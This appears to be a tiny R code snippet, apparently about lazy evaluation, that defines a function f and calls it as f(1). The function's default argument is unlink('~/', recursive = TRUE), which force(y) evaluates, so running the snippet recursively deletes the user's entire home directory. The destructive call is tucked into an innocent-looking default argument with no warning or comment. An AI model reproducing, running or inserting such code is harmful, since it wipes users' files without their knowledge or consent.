f <- function(x, y = unlink("~/", recursive = TRUE)) { force(y); x }
f(1)
